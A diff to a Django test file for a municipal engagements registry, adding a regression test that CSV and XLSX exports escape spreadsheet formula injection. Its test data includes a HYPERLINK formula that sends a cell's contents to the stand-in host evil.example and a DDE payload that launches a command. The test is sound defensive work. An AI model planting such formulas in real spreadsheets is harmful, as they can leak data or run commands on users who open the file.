@@ -10,15 +10,16 @@ from pathlib import Path
 from typing import Any
 
 import frictionless
+import openpyxl
 import pytest
 from django.contrib.auth.models import User
 from django.core.management import CommandError, call_command
 from django.utils import translation
 
 from tests.seeds import once_seeded
+from udsyn.core.exchange.importer import ImportResult
 from udsyn.engagements.models import Engagement, EngagementLink, Funding, Representative
 from udsyn.interop import exports, tabular
-from udsyn.interop.registry import ImportResult
 from udsyn.organisation.models import Municipality, Person, Unit
 
 pytestmark = pytest.mark.django_db
@@ -205,7 +206,7 @@ def test_a_workbook_with_every_sheet_round_trips_and_a_deleted_link_row_is_delet
 
     content = exports.export("xlsx", internal=True)
     workbook = openpyxl.load_workbook(io.BytesIO(content))
-    assert [sheet.title for sheet in workbook.worksheets] == [t.name for t in tabular.TABLES]
+    assert [sheet.title for sheet in workbook.worksheets] == [t.name for t in tabular.tables()]
     workbook["links"].delete_rows(2)
     buffer = io.BytesIO()
     workbook.save(buffer)
@@ -377,3 +378,47 @@ def test_public_downloads_hold_no_people_or_internal_notes(registry: dict[str, A
     assert "EUROCITIES" in text or fmt == "ics"
     for secret in ("INTERNAL-NOTE-123", "secret.person@example.dk", "Jes Vissing"):
         assert secret not in text
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "\tTAB=1", "\r=CR")
+
+
+def test_no_cell_of_an_open_or_internal_spreadsheet_is_a_formula_and_the_values_come_back_whole(
+        registry: dict[str, Any], client: Any, coordinator: User, login: Callable[[User], Any]) -> None:
+    """Issue 17: an editor could plant =HYPERLINK(...) or @SUM(...) in a record, and the public CSV and XLSX
+    downloads wrote it as given (in XLSX as a live formula). Every such cell now starts with an apostrophe
+    (OWASP), and an export read back gives the values as they were."""
+    eurocities = registry["eurocities"]
+    eurocities.description = FORMULAS[0]
+    eurocities.save()
+    links = [EngagementLink.objects.create(engagement=eurocities, url=f"https://example.org/{i}", title=formula)
+             for i, formula in enumerate(FORMULAS)]
+    public_xlsx = client.get("/public/0101/data/xlsx/").content
+    public_csv = client.get("/public/0101/data/csv/").content
+    internal_xlsx = login(coordinator).get("/export/", {"format": "xlsx", "internal": "1"}).content
+    internal_csv = login(coordinator).get("/export/", {"format": "csv", "internal": "1"}).content
+
+    for content in (public_xlsx, internal_xlsx):
+        workbook = openpyxl.load_workbook(io.BytesIO(content))
+        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+        assert all("'" + formula in texts for formula in FORMULAS)
+        assert not [text for text in texts if text.startswith(tabular.FORMULA_START)]
+    for content in (public_csv, internal_csv):
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            cells = [value for name in archive.namelist()
+                     for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""))
+                     for value in row]
+        assert all("'" + formula in cells for formula in FORMULAS)
+        assert not [value for value in cells if value.startswith(tabular.FORMULA_START)]
+
+    # What the internal export holds comes back as it was, in both formats: re-importing it would change
+    # nothing but the tab and carriage return before two titles (the importer trims what surrounds a text).
+    for name, content in (("all.xlsx", internal_xlsx), ("all.zip", internal_csv)):
+        result = _import(name, content, user=coordinator, dry_run=True)
+        assert result.ok, result.problems
+        assert sorted((change.field, change.new) for change in result.changes) == [
+            ("title", "=CR"), ("title", "TAB=1")]
+    assert {link.title for link in EngagementLink.objects.filter(pk__in=[link.pk for link in links])} == set(FORMULAS)
